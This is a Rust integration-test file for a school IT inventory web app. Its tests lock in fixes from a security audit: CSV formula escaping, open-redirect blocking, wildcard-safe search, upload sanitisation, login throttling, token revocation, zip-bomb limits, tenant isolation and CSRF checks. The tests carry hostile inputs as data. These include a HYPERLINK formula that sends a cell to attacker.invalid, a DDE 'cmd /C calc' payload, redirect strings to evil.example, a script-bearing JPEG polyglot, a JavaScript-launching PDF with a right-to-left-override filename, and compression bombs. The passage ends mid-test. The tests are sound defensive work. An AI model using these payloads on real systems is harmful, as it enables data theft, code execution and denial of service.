//! What a security audit found, each finding kept fixed by a test: reads of pupil labels
//! logged whatever answer shows them, no formula in a CSV export, no redirect to another
//! site after login, search text taken literally.

use axum::http::Method;
use preau_core::with_db;
use serde_json::json;

use crate::harness::{TestApp, first_and_other_school, set_cookie};
use crate::inventory::{ocs_inventory, post_ocs};
use crate::pupils::{export, line};

async fn reads_of(app: &TestApp, object_type: &str, id: i64) -> i64 {
    with_db!(&app.db, p => sqlx::query_scalar::<_, i64>("SELECT COUNT(*) FROM audit_log WHERE action = 'read_pupils' AND object_type = $1 AND object_id = $2").bind(object_type).bind(id).fetch_one(p).await.unwrap())
}

#[tokio::test]
async fn an_onde_preview_and_the_loans_api_log_the_labels_they_show() {
    let app = TestApp::demo().await;
    let (school, _) = first_and_other_school(&app).await;
    let held: i64 = with_db!(&app.db, p => sqlx::query_scalar("SELECT COUNT(*) FROM pupils WHERE school_id = $1 AND left_on IS NULL AND label IS NOT NULL").bind(school).fetch_one(p).await.unwrap());
    assert!(held > 1, "the demo's first school has pupils");
    // A one-line export: the preview lists every other pupil as leaving, by label.
    let file = export(&[line(0, "CE1", "CE1 — Mme Roux")]);
    let session = app.login("directeur", "demo").await;
    let before = reads_of(&app, "school", school).await;
    let preview = session
        .post_file(
            &format!("/schools/{school}/onde"),
            &[],
            Some(("file", "extraction.csv", file.as_bytes())),
        )
        .await;
    assert_eq!(preview.status, 200, "{}", preview.body);
    let shown: String = with_db!(&app.db, p => sqlx::query_scalar("SELECT label FROM pupils WHERE school_id = $1 AND left_on IS NULL AND label IS NOT NULL ORDER BY id LIMIT 1").bind(school).fetch_one(p).await.unwrap());
    assert!(
        preview.body.contains(&shown),
        "the preview names departures"
    );
    // Nothing was imported, yet the read is in the log, and names no pupil.
    let after: i64 = with_db!(&app.db, p => sqlx::query_scalar("SELECT COUNT(*) FROM pupils WHERE school_id = $1 AND left_on IS NULL AND label IS NOT NULL").bind(school).fetch_one(p).await.unwrap());
    assert_eq!(after, held);
    assert_eq!(reads_of(&app, "school", school).await, before + 1);
    let (who, what): (String, String) = with_db!(&app.db, p => sqlx::query_as("SELECT actor_login, object_label FROM audit_log WHERE action = 'read_pupils' AND object_type = 'school' AND object_id = $1 ORDER BY id DESC LIMIT 1").bind(school).fetch_one(p).await.unwrap());
    assert_eq!(who, "directeur");
    assert!(what.contains("ONDE") && !what.contains(&shown), "{what}");

    // The loans API answers with the pupil's label: lending and returning log it.
    let token = app.token("admin").await;
    let (loan, pupil, device): (i64, i64, i64) = with_db!(&app.db, p => sqlx::query_as("SELECT l.id, l.pupil_id, l.device_id FROM loans l JOIN pupils p ON p.id = l.pupil_id WHERE l.returned_on IS NULL AND p.label IS NOT NULL ORDER BY l.id LIMIT 1").fetch_one(p).await.unwrap());
    let school: i64 = with_db!(&app.db, p => sqlx::query_scalar("SELECT school_id FROM loans WHERE id = $1").bind(loan).fetch_one(p).await.unwrap());
    let back = app
        .api(
            &token,
            Method::POST,
            &format!("/api/v1/loans/{loan}/return"),
            Some(json!({"state": "ok"})),
        )
        .await;
    assert_eq!(back.status, 200, "{}", back.body);
    assert!(back.json()["pupil_label"].is_string());
    assert_eq!(reads_of(&app, "loan", loan).await, 1);
    let asset: String = with_db!(&app.db, p => sqlx::query_scalar("SELECT COALESCE(asset_tag, serial) FROM devices WHERE id = $1").bind(device).fetch_one(p).await.unwrap());
    let again = app
        .api(
            &token,
            Method::POST,
            "/api/v1/loans",
            Some(json!({"school_id": school, "kind": "eleve", "pupil_id": pupil, "device": asset})),
        )
        .await;
    assert_eq!(again.status, 201, "{}", again.body);
    let new_loan = again.json()["id"].as_i64().unwrap();
    assert!(again.json()["pupil_label"].is_string());
    assert_eq!(reads_of(&app, "loan", new_loan).await, 1);
}

#[tokio::test]
async fn csv_exports_never_carry_a_formula() {
    let app = TestApp::demo().await;
    let (school, _) = first_and_other_school(&app).await;
    let uai: String = with_db!(&app.db, p => sqlx::query_scalar("SELECT uai FROM schools WHERE id = $1").bind(school).fetch_one(p).await.unwrap());
    let name = "=HYPERLINK(\"http://attacker.invalid/?x=\"&amp;B2,\"Voir\")";
    let serial = "@SUM(1+1)*cmd|' /C calc'!A0";
    let body = ocs_inventory(
        "formula-2026-12-02-10-00-00",
        name,
        None,
        Some(serial),
        Some(&uai),
        Some(3),
    );
    let r = post_ocs(&app, body).await;
    assert_eq!(r.status, 200, "{}", r.body);
    let admin = app.login("admin", "demo").await;
    let csv = admin
        .get("/devices/export/materiel.csv?search=attacker")
        .await;
    assert_eq!(csv.status, 200);
    let lines: Vec<&str> = csv.body.lines().collect();
    assert_eq!(lines.len(), 2, "{}", csv.body);
    for cell in lines[1].split(';') {
        let cell = cell.trim_matches('"');
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell} would run as a formula"
        );
    }
    assert!(lines[1].contains("'=HYPERLINK(") && lines[1].contains("'@SUM(1+1)"));
    // The same device as XLSX keeps its text as typed (cells there are text, not formulas).
    let xlsx = admin
        .get("/devices/export/materiel.xlsx?search=attacker")
        .await;
    assert_eq!(xlsx.status, 200);
    let sheets = crate::harness::xlsx_sheets(&xlsx.bytes);
    assert!(
        sheets[0].1.contains("=HYPERLINK(") && sheets[0].1.contains("@SUM(1+1)"),
        "{:?}",
        sheets[0]
    );
    assert!(
        !String::from_utf8_lossy(&xlsx.bytes).contains("<f>"),
        "no formula"
    );
}

#[tokio::test]
async fn after_login_only_a_path_of_this_site_is_followed() {
    let app = TestApp::demo().await;
    for (next, to) in [
        ("/%09/evil.example/", "/"),
        ("//evil.example/", "/"),
        ("/%5Cevil.example", "/"),
        ("https://evil.example/", "/"),
        ("/%0d%0a/evil.example", "/"),
        ("/tickets%3Fstatus%3Dall", "/tickets?status=all"),
    ] {
        let page = app
            .request(Method::GET, &format!("/login?next={next}"), &[], None)
            .await;
        assert_eq!(page.status, 200);
        assert!(!page.body.contains("evil.example"), "{next}");
        let anon = set_cookie(&page, "preau_csrf").unwrap();
        let resp = app
            .request(
                Method::POST,
                "/login",
                &[
                    ("cookie", format!("preau_csrf={anon}")),
                    ("content-type", "application/x-www-form-urlencoded".into()),
                ],
                Some(format!("csrf={anon}&login=admin&password=demo&next={next}")),
            )
            .await;
        assert_eq!(resp.status, 303, "{next}");
        assert_eq!(resp.location(), to, "{next}");
    }
}

#[tokio::test]
async fn search_wildcards_are_searched_for_not_obeyed() {
    let app = TestApp::demo().await;
    let token = app.token("admin").await;
    let all_devices = app.scalar("SELECT COUNT(*) FROM devices").await;
    assert!(all_devices > 100);
    for uri in [
        "/api/v1/devices?search=%25",
        "/api/v1/schools?q=%25",
        "/api/v1/tickets?status=all&q=%25",
    ] {
        let r = app.api(&token, Method::GET, uri, None).await;
        assert_eq!(r.status, 200, "{uri}: {}", r.body);
        assert_eq!(r.json()["items"].as_array().unwrap().len(), 0, "{uri}");
    }
    // A percent sign in a name is found as such, and only there.
    with_db!(&app.db, p => sqlx::query("UPDATE devices SET name = 'Remise 100% tablette', search_key = 'remise 100% tablette' WHERE id = (SELECT MIN(id) FROM devices)").execute(p).await.unwrap().rows_affected());
    let r = app
        .api(&token, Method::GET, "/api/v1/devices?search=100%25", None)
        .await;
    assert_eq!(r.json()["items"].as_array().unwrap().len(), 1, "{}", r.body);
    let r = app
        .api(&token, Method::GET, "/api/v1/schools?q=ecole", None)
        .await;
    assert!(!r.json()["items"].as_array().unwrap().is_empty());
}

#[tokio::test]
async fn attachments_are_named_by_their_type_and_never_cached_or_run() {
    let app = TestApp::demo().await;
    let (a, _) = first_and_other_school(&app).await;
    let teacher = app.login("enseignant", "demo").await;
    let school = a.to_string();
    let jpeg = b"\xFF\xD8\xFF\xE0\x00\x10JFIF\x00<html><script>alert(1)</script></html>";
    let r = teacher
        .post_file(
            "/tickets",
            &[
                ("school_id", &school),
                ("category", "ecran"),
                ("priority", "p2"),
            ],
            Some(("photo", "poly.html", jpeg)),
        )
        .await;
    assert_eq!(r.status, axum::http::StatusCode::SEE_OTHER, "{}", r.body);
    let id: i64 = r
        .location()
        .trim_start_matches("/tickets/")
        .split('?')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    let pdf =
        b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n";
    let r = teacher
        .post_file(
            &format!("/tickets/{id}/attachments"),
            &[],
            Some(("photo", "facture\u{202E}fdp.exe", pdf)),
        )
        .await;
    assert_eq!(r.status, axum::http::StatusCode::SEE_OTHER, "{}", r.body);
    let names: Vec<(i64, String)> = with_db!(&app.db, p => sqlx::query_as("SELECT a.id, a.file_name FROM ticket_attachments a WHERE a.ticket_id = $1 ORDER BY a.id").bind(id).fetch_all(p).await.unwrap());
    assert_eq!(
        names.iter().map(|n| n.1.as_str()).collect::<Vec<_>>(),
        vec!["poly.jpg", "facturefdp.pdf"],
        "the extension follows the type; no bidirectional override survives"
    );
    for (aid, name) in &names {
        let r = teacher
            .get(&format!("/tickets/{id}/attachments/{aid}"))
            .await;
        assert_eq!(r.status, axum::http::StatusCode::OK);
        assert_eq!(r.headers["cache-control"], "no-store");
        assert_eq!(r.headers["x-content-type-options"], "nosniff");
        assert!(
            r.headers["content-security-policy"]
                .to_str()
                .unwrap()
                .starts_with("sandbox")
        );
        let disposition = r.headers["content-disposition"].to_str().unwrap();
        if name.ends_with(".pdf") {
            assert_eq!(r.headers["content-type"], "application/pdf");
            assert!(disposition.starts_with("attachment;"), "{disposition}");
        } else {
            assert_eq!(r.headers["content-type"], "image/jpeg");
            assert!(disposition.starts_with("inline;"), "{disposition}");
        }
    }
}

#[tokio::test]
async fn a_typed_agent_secret_has_at_least_sixteen_characters() {
    let app = TestApp::demo().await;
    let admin = app.login("admin", "demo").await;
    let r = admin
        .post(
            "/admin/agents",
            &[("login", "agents-ecoles"), ("secret", "x")],
        )
        .await;
    assert_eq!(
        r.status,
        axum::http::StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        r.body
    );
    assert!(r.body.contains("au moins 16 caractères"));
    // The demo's agents still sign in with the old secret: nothing was changed.
    let login: String = with_db!(&app.db, p => sqlx::query_scalar("SELECT login FROM agent_credentials").fetch_one(p).await.unwrap());
    assert_eq!(login, preau_core::demo::AGENT_LOGIN);
    let r = admin
        .post(
            "/admin/agents",
            &[("login", "agents-ecoles"), ("secret", "seize-caracteres")],
        )
        .await;
    assert!(
        r.status.is_redirection() || r.status.is_success(),
        "{}",
        r.body
    );
    let id = preau_core::inventory::agents::check(&app.db, "agents-ecoles", "seize-caracteres")
        .await
        .unwrap();
    assert!(id.is_some());
}

#[tokio::test]
async fn wrong_agent_secrets_are_throttled_then_refused_unchecked() {
    let app = TestApp::demo().await;
    let body = ocs_inventory("pc-throttle-1", "pc-throttle", None, None, None, Some(3));
    let post = |auth: &'static str| {
        let (app, body) = (&app, body.clone());
        async move {
            crate::inventory::post_agent(
                app,
                "/ocsinventory",
                &[
                    ("authorization", auth),
                    ("content-type", "application/xml"),
                    ("user-agent", "OCS-NG_unified_unix_agent_v2.10.0"),
                ],
                body,
            )
            .await
        }
    };
    // `agent:wrong` ten times: each a 401 challenge.
    for _ in 0..10 {
        assert_eq!(post("Basic YWdlbnQ6d3Jvbmc=").await.status, 401);
    }
    // Then even the right secret waits: 429 with Retry-After, nothing stored.
    let r = post(crate::inventory::DEMO_AGENT).await;
    assert_eq!(r.status, 429, "{}", r.body);
    assert_eq!(r.headers["retry-after"], "900");
    let stored = app
        .scalar("SELECT COUNT(*) FROM devices WHERE agent_device_id = 'pc-throttle-1'")
        .await;
    assert_eq!(stored, 0);
}

#[tokio::test]
async fn a_secret_rotated_elsewhere_stops_working_at_once() {
    let app = TestApp::demo().await;
    let body = ocs_inventory("pc-rotation-1", "pc-rotation", None, None, None, Some(3));
    // Signed in once: the server remembers it.
    let r = post_ocs(&app, body.clone()).await;
    assert_eq!(r.status, 200, "{}", r.body);
    // The command line (another process: this server's memory is not told) rotates it.
    let sys = preau_domain::Principal::system(
        app.scalar("SELECT collectivite_id FROM agent_credentials")
            .await,
        "cli",
    );
    preau_core::write_tx!(app.db, tx => preau_core::inventory::agents::set(tx, &sys, "agent", Some("un-secret-tout-neuf-2026"), chrono::Utc::now()).await?).unwrap();
    // The old secret is refused on the very next inventory.
    let r = post_ocs(&app, body).await;
    assert_eq!(r.status, 401, "{}", r.body);
}

#[tokio::test]
async fn api_tokens_expire_and_a_password_reset_revokes_them() {
    let app = TestApp::demo().await;
    let me = |token: String| {
        let app = &app;
        async move {
            app.api(&token, Method::GET, "/api/v1/me", None)
                .await
                .status
        }
    };
    // A token lives a year: stored with its date, refused once past it.
    let admin = app.token("admin").await;
    assert_eq!(me(admin.clone()).await, 200);
    let days: i64 = with_db!(&app.db, p => sqlx::query_as::<_, (chrono::DateTime<chrono::Utc>, chrono::DateTime<chrono::Utc>)>("SELECT created_at, expires_at FROM api_tokens ORDER BY id DESC LIMIT 1").fetch_one(p).await.map(|(c, e)| (e - c).num_days()).unwrap());
    assert_eq!(days, 365);
    let used: Option<chrono::DateTime<chrono::Utc>> = with_db!(&app.db, p => sqlx::query_scalar("SELECT last_used_at FROM api_tokens ORDER BY id DESC LIMIT 1").fetch_one(p).await.unwrap());
    assert!(used.is_some(), "its last use is kept");
    let past = chrono::Utc::now() - chrono::Duration::minutes(1);
    with_db!(&app.db, p => sqlx::query("UPDATE api_tokens SET expires_at = $1").bind(past).execute(p).await.unwrap().rows_affected());
    assert_eq!(me(admin).await, 401);
    // The technician's token survives their own password change, not an administrator's
    // reset (whoever knew the old password may have made it).
    let tech = app.token("technicien").await;
    let s = app.login("technicien", "demo").await;
    let r = s
        .post(
            "/account/password",
            &[
                ("current_password", "demo"),
                ("new_password", "une-phrase-bien-longue"),
                ("confirm_password", "une-phrase-bien-longue"),
            ],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.body);
    assert_eq!(me(tech.clone()).await, 200);
    let id: i64 = with_db!(&app.db, p => sqlx::query_scalar("SELECT id FROM users WHERE login = 'technicien'").fetch_one(p).await.unwrap());
    let admin = app.login("admin", "demo").await;
    let r = admin
        .post(
            &format!("/admin/users/{id}/password"),
            &[("password", "remise-a-zero-2026")],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.body);
    assert_eq!(me(tech).await, 401);
    let changes: String = with_db!(&app.db, p => sqlx::query_scalar("SELECT changes FROM audit_log WHERE action = 'reset_password' ORDER BY id DESC LIMIT 1").fetch_one(p).await.unwrap());
    assert!(changes.contains("\"api_tokens_revoked\":1"), "{changes}");
}

#[tokio::test]
async fn wrong_passwords_slow_their_sender_without_locking_the_user_out() {
    let app = TestApp::demo().await;
    let page = app.request(Method::GET, "/login", &[], None).await;
    let anon = set_cookie(&page, "preau_csrf").unwrap();
    let attempt = |from: &'static str, pw: &'static str| {
        let (app, anon) = (&app, anon.clone());
        async move {
            let mut req = axum::http::Request::builder()
                .method(Method::POST)
                .uri("/login")
                .header("cookie", format!("preau_csrf={anon}"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body(axum::body::Body::from(format!(
                    "csrf={anon}&login=directeur&password={pw}"
                )))
                .unwrap();
            let addr: std::net::SocketAddr = from.parse().unwrap();
            req.extensions_mut()
                .insert(axum::extract::ConnectInfo(addr));
            app.send(req).await
        }
    };
    // A stranger guesses from one address: five tries, then each next one must wait.
    for _ in 0..5 {
        assert_eq!(attempt("203.0.113.9:40000", "wrong").await.status, 401);
    }
    let r = attempt("203.0.113.9:40000", "wrong").await;
    assert_eq!(r.status, 429);
    let wait: u64 = r.headers["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((1..=2).contains(&wait), "{wait}");
    // Meanwhile the directeur, from the school, signs in: not locked out.
    let r = attempt("198.51.100.20:51000", "demo").await;
    assert_eq!(r.status, 303, "{}", r.body);
    // The waits grow: after the pause, one more failure doubles it.
    tokio::time::sleep(std::time::Duration::from_millis(2100)).await;
    assert_eq!(attempt("203.0.113.9:40000", "wrong").await.status, 401);
    let r = attempt("203.0.113.9:40000", "wrong").await;
    assert_eq!(r.status, 429);
    let wait: u64 = r.headers["retry-after"].to_str().unwrap().parse().unwrap();
    assert!((3..=4).contains(&wait), "{wait}");
}

/// Finding 3: a small compressed body that inflates to millions of elements or values is
/// refused before its tree is built, and inventories beyond the ones being read wait,
/// then are told to come back.
#[tokio::test]
async fn amplified_inventories_are_refused_and_excess_ones_told_to_come_back() {
    use std::io::Write;
    let zlib = |body: &[u8]| {
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        z.write_all(body).unwrap();
        z.finish().unwrap()
    };
    let app = TestApp::demo().await;
    let post = |body: Vec<u8>, content_type: &'static str| {
        let app = &app;
        async move {
            crate::inventory::post_agent(
                app,
                "/ocsinventory",
                &[
                    ("authorization", crate::inventory::DEMO_AGENT),
                    ("content-type", content_type),
                    ("user-agent", "OCS-NG_unified_unix_agent_v2.10.0"),
                ],
                body,
            )
            .await
        }
    };
    let devices = "SELECT COUNT(*) FROM devices";
    let before = app.scalar(devices).await;
    // 3 million empty elements: 12 MB inflated from a few kilobytes.
    let xml = format!(
        "<?xml version=\"1.0\"?><REQUEST><QUERY>INVENTORY</QUERY><DEVICEID>bomb</DEVICEID><CONTENT>{}</CONTENT></REQUEST>",
        "<A/>".repeat(3_000_000)
    );
    let body = zlib(xml.as_bytes());
    assert!(body.len() < 100_000, "{}", body.len());
    let r = post(body, "application/x-compress").await;
    assert_eq!(r.status, 413, "{}", r.body);
    assert!(r.body.contains("more than 200000 elements"), "{}", r.body);
    // The same with a JSON array of zeros.
    let json = format!(
        "{{\"action\":\"inventory\",\"deviceid\":\"bomb\",\"content\":{{\"softwares\":[{}]}}}}",
        vec!["0"; 3_000_000].join(",")
    );
    let r = post(zlib(json.as_bytes()), "application/x-compress-zlib").await;
    assert_eq!(r.status, 413, "{}", r.body);
    assert!(r.body.contains("more than 200000"), "{}", r.body);
    // Larger than the inflation bound: refused as such.
    let huge = zlib(&vec![b' '; preau_web::agent::MAX_INFLATED + 1]);
    assert_eq!(post(huge, "application/x-compress").await.status, 413);
    assert_eq!(app.scalar(devices).await, before);

    // No room to read another inventory: after a short wait, 503 and Retry-After.
    let full = TestApp::demo_with(preau_web::WebConfig {
        secure_cookies: false,
        max_ingestions: 0,
        ingestion_wait: std::time::Duration::from_millis(20),
        ..Default::default()
    })
    .await;
    let body = ocs_inventory("pc-busy-1", "pc-busy", None, None, None, Some(3));
    let r = crate::inventory::post_agent(
        &full,
        "/ocsinventory",
        &[
            ("authorization", crate::inventory::DEMO_AGENT),
            ("content-type", "application/xml"),
            ("user-agent", "OCS-NG_unified_unix_agent_v2.10.0"),
        ],
        body,
    )
    .await;
    assert_eq!(r.status, 503, "{}", r.body);
    assert_eq!(r.headers["retry-after"], "120");
    let healthz = full
        .request(axum::http::Method::GET, "/healthz", &[], None)
        .await;
    assert_eq!(healthz.status, 200);
}

/// Finding 9: weak passwords are refused wherever a password is set, each with why.
#[tokio::test]
async fn weak_passwords_are_refused_with_the_reason_in_french() {
    let app = TestApp::demo().await;
    let admin = app.login("admin", "demo").await;
    let users = "SELECT COUNT(*) FROM users";
    let before = app.scalar(users).await;
    for (pw, says) in [
        ("aaaaaaaaaa", "se devine trop facilement"),
        ("password12", "trop courant"),
        ("Azerty2026!", "trop courant"),
        ("m.dupont-2026", "ni l&#39;identifiant ni le nom"),
        ("Dupont!Marie77", "ni l&#39;identifiant ni le nom"),
    ] {
        let r = admin
            .post(
                "/admin/users",
                &[
                    ("login", "m.dupont"),
                    ("display_name", "Marie Dupont"),
                    ("password", pw),
                    ("lang", "fr"),
                ],
            )
            .await;
        assert_eq!(r.status, 422, "{pw}");
        let body = r.body.replace("&#x27;", "&#39;").replace('\'', "&#39;");
        assert!(body.contains(says), "{pw}: {says}");
    }
    assert_eq!(app.scalar(users).await, before);
    // Reset by the administrator and change by oneself follow the same rule.
    let id: i64 = with_db!(&app.db, p => sqlx::query_scalar("SELECT id FROM users WHERE login = 'enseignant'").fetch_one(p).await.unwrap());
    let r = admin
        .post(
            &format!("/admin/users/{id}/password"),
            &[("password", "motdepasse2026")],
        )
        .await;
    assert_eq!(r.status, 422);
    let teacher = app.login("enseignant", "demo").await;
    let r = teacher
        .post(
            "/account/password",
            &[
                ("current_password", "demo"),
                ("new_password", "enseignant1234"),
                ("confirm_password", "enseignant1234"),
            ],
        )
        .await;
    assert_eq!(r.status, 422);
    // A sentence passes.
    let r = teacher
        .post(
            "/account/password",
            &[
                ("current_password", "demo"),
                ("new_password", "le préau sent la craie"),
                ("confirm_password", "le préau sent la craie"),
            ],
        )
        .await;
    assert_eq!(r.status, 303, "{}", r.body);
}

/// Finding 6: logins are unique within a collectivité; another collectivité creating the
/// same user or agent login learns nothing, and sign-in tells homonyms apart by password.
#[tokio::test]
async fn no_collectivite_learns_another_s_logins() {
    use base64::Engine;
    let app = TestApp::demo().await;
    let now = chrono::Utc::now();
    let mut tx = app.db.begin().await.unwrap();
    let other = preau_core::collectivites::create(
        &mut tx,
        preau_domain::org::CollectiviteKind::Commune,
        "Commune voisine",
        None,
        now,
    )
    .await
    .unwrap();
    let sys = preau_domain::Principal::system(other, "test");
    // Its administrator is called "admin" too.
    let strong = "Ardoise-Marelle-Cerf-Volant-2026";
    let admin2 = preau_core::users::create(
        &mut tx,
        &sys,
        &preau_core::users::UserInput {
            login: "admin".into(),
            display_name: "Inès Voisine".into(),
            email: None,
            password: strong.into(),
            lang: None,
        },
        now,
    )
    .await
    .unwrap();
    preau_core::users::add_role(
        &mut tx,
        &sys,
        admin2.id,
        preau_domain::Role::Administrateur,
        None,
        None,
        now,
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    // Each "admin" signs into their own collectivité, told apart by the password.
    let me = |login: &'static str, password: &'static str| {
        let app = &app;
        async move {
            let s = app.login(login, password).await;
            s.get("/account").await
        }
    };
    let theirs = me("admin", strong).await;
    assert!(theirs.body.contains("Inès Voisine"), "{}", theirs.body);
    let ours = me("admin", "demo").await;
    assert!(ours.body.contains("Claire Admin"), "{}", ours.body);
    // Creating the demo's logins there: accepted like any new login, for users and agents.
    let s = app.login("admin", strong).await;
    let r = s
        .post(
            "/admin/users",
            &[
                ("login", "directeur"),
                ("display_name", "Paul Voisin"),
                ("password", "Toboggan-Cartable-Preau-2026"),
            ],
        )
        .await;
    assert!(r.status.is_redirection(), "{}: {}", r.status, r.body);
    assert!(!r.body.contains("déjà pris"));
    let secret = "secret-des-agents-voisins-2026";
    let r = s
        .post("/admin/agents", &[("login", "agent"), ("secret", secret)])
        .await;
    assert!(r.status.is_success(), "{}", r.body);
    assert!(!r.body.contains("déjà pris"), "{}", r.body);
    // Within one collectivité a login is still taken once.
    let again = s
        .post(
            "/admin/users",
            &[
                ("login", "directeur"),
                ("display_name", "Paul Voisin"),
                ("password", "Toboggan-Cartable-Preau-2026"),
            ],
        )
        .await;
    assert!(again.body.contains("déjà pris"), "{}", again.body);
    // Each collectivité's agents file their inventories at home, by their secret.
    let auth = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("agent:{secret}"))
    );
    let body = ocs_inventory("pc-voisin-1", "pc-voisin", None, None, None, Some(3));
    let r = crate::inventory::post_agent(
        &app,
        "/ocsinventory",
        &[
            ("authorization", auth.as_str()),
            ("content-type", "application/xml"),
            ("user-agent", "OCS-NG_unified_unix_agent_v2.10.0"),
        ],
        body,
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let r = post_ocs(
        &app,
        ocs_inventory("pc-demo-9", "pc-demo", None, None, None, Some(3)),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body);
    let homes: Vec<(String, i64)> = with_db!(&app.db, p => sqlx::query_as("SELECT agent_device_id, collectivite_id FROM devices WHERE agent_device_id IN ('pc-voisin-1', 'pc-demo-9') ORDER BY agent_device_id").fetch_all(p).await.unwrap());
    let demo = app.scalar("SELECT MIN(id) FROM collectivites").await;
    assert_eq!(
        homes,
        vec![
            ("pc-demo-9".to_string(), demo),
            ("pc-voisin-1".to_string(), other)
        ]
    );
    // Two homonyms with the same password: neither is signed in.
    preau_core::write_tx!(app.db, tx => preau_core::users::force_password(tx, admin2.id, "demo", now).await?).unwrap();
    assert_eq!(
        preau_core::users::auth::check_credentials(&app.db, "admin", "demo")
            .await
            .unwrap(),
        None
    );
}

/// The login namespaces' migration on a deployment with data: every account, role,
/// session and agent credential kept, nothing pointing nowhere, sign-in as before.
#[tokio::test]
async fn logins_become_per_collectivite_on_a_deployment_with_data() {
    let app = TestApp::demo_upgraded_from(19).await;
    let fresh = TestApp::demo().await;
    for table in [
        "users",
        "role_assignments",
        "agent_credentials",
        "tickets",
        "loans",
    ] {
        let sql = format!("SELECT COUNT(*) FROM {table}");
        let count = |app: &TestApp| {
            let (db, sql) = (app.db.clone(), sql.clone());
            async move {
                with_db!(&db, p => sqlx::query_scalar::<_, i64>(sqlx::AssertSqlSafe(sql)).fetch_one(p).await.unwrap())
            }
        };
        assert_eq!(count(&app).await, count(&fresh).await, "{table}");
    }
    if let preau_core::Db::Sqlite(p, _) = &app.db {
        let dangling = sqlx::query("PRAGMA foreign_key_check")
            .fetch_all(p)
            .await
            .unwrap();
        assert!(dangling.is_empty());
        let on: i64 = sqlx::query_scalar("PRAGMA foreign_keys")
            .fetch_one(p)
            .await
            .unwrap();
        assert_eq!(on, 1, "foreign keys are back on");
    }
    let s = app.login("directeur", "demo").await;
    assert_eq!(s.get("/").await.status, 200);
    let r = post_ocs(
        &app,
        ocs_inventory("pc-upgrade-1", "pc-upgrade", None, None, None, Some(3)),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.body);
}

/// Every POST route of the pages refuses a form without the session's CSRF token, or with
/// another one, and changes nothing; every API write refuses a session cookie alone (the
/// API takes bearer tokens only).
#[tokio::test]
async fn every_post_route_refuses_a_request_without_its_csrf_token() {
    let app = TestApp::demo().await;
    let routes: Vec<String> = crate::harness::page_routes()
        .into_iter()
        .filter(|(_, post)| *post)
        .map(|(p, _)| p)
        .collect();
    assert!(routes.len() >= 60, "{routes:?}");
    let s = app.login("admin", "demo").await;
    let audit = "SELECT COUNT(*) FROM audit_log";
    let before = app.scalar(audit).await;
    let mut accepted = Vec::new();
    for route in &routes {
        // Signing in has its own anonymous token (checked in the login tests).
        if route == "/login" {
            continue;
        }
        let path = crate::harness::filled(route);
        for body in [
            "csrf=not-the-session-token&name=x&login=x",
            "name=x&login=x",
        ] {
            let r = app
                .request(
                    Method::POST,
                    &path,
                    &[
                        ("cookie", s.cookie.clone()),
                        ("content-type", "application/x-www-form-urlencoded".into()),
                    ],
                    Some(body.to_string()),
                )
                .await;
            // An upload route reads a multipart form: the same two, as uploads.
            let r = if r.status == 400 {
                let token = if body.starts_with("csrf=") {
                    "--b\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\nnot-the-session-token\r\n"
                } else {
                    ""
                };
                let form = format!(
                    "{token}--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\nContent-Type: text/csv\r\n\r\nuai;nom\r\n--b--\r\n"
                );
                app.request(
                    Method::POST,
                    &path,
                    &[
                        ("cookie", s.cookie.clone()),
                        ("content-type", "multipart/form-data; boundary=b".into()),
                    ],
                    Some(form),
                )
                .await
            } else {
                r
            };
            if r.status != 403 {
                accepted.push(format!("POST {path} ({body}): {}", r.status));
            }
        }
    }
    assert!(accepted.is_empty(), "{}", accepted.join("\n"));
    assert_eq!(app.scalar(audit).await, before, "nothing was changed");
    // The API: a session cookie is no credential.
    let mut api = 0;
    for op in preau_web::api::ops().iter().filter(|o| o.method != "get") {
        let path = format!("/api/v1{}", crate::harness::filled(op.path));
        let r = app
            .request(
                op.method.to_uppercase().parse().unwrap(),
                &path,
                &[
                    ("cookie", s.cookie.clone()),
                    ("content-type", "application/json".into()),
                ],
                Some("{}".into()),
            )
            .await;
        assert_eq!(r.status, 401, "{} {path}", op.method);
        api += 1;
    }
    assert!(api >= 20, "{api}");
    // With its token, the same session is let through.
    let r = s.post("/account/lang", &[("lang", "fr")]).await;
    assert!(r.status.is_redirection(), "{}", r.status);
}

/// The ids of one collectivité's objects of a kind (`sql` selects ids, `$1` its id).
async fn ids_of(app: &TestApp, sql: &str, cid: i64) -> Vec<i64> {
    let sql = sql.to_string();
    with_db!(&app.db, p => sqlx::query_scalar::<_, i64>(sqlx::AssertSqlSafe(sql)).bind(cid).fetch_all(p).await.unwrap())
}

/// Two demo communes side by side (the same schools, names, tags and UAIs): neither's
/// administrator reaches the other's objects of any kind, by id (pages and API), in a
/// list, in a search or an export, and an agent of one files nothing into the other's.
#[tokio::test]
async fn two_collectivites_never_see_each_other_s_objects() {
    use base64::Engine;
    let app = TestApp::demo().await;
    let now = chrono::Utc::now();
    let ours = app.scalar("SELECT MIN(id) FROM collectivites").await;
    let theirs = preau_core::demo::load_named(&app.db, "Commune voisine (démo)", now)
        .await
        .unwrap();
    // Their people and agents get their own password and secret.
    let their_users = ids_of(
        &app,
        "SELECT id FROM users WHERE collectivite_id = $1",
        theirs,
    )
    .await;
    for u in their_users {
        preau_core::write_tx!(app.db, tx => preau_core::users::force_password(tx, u, "voisin-demo-2026", now).await?).unwrap();
    }
    let secret = "secret-des-agents-voisins-2026";
    let sys = preau_domain::Principal::system(theirs, "test");
    preau_core::write_tx!(app.db, tx => preau_core::inventory::agents::set(tx, &sys, "agent", Some(secret), now).await?).unwrap();
    let kinds: &[(&str, &str, &[&str], &[&str])] = &[
        (
            "schools",
            "SELECT id FROM schools WHERE collectivite_id = $1",
            &[
                "/schools/{}",
                "/connectivity/{}",
                "/coverage/{}",
                "/schools/{}/loans",
            ],
            &[
                "/schools/{}",
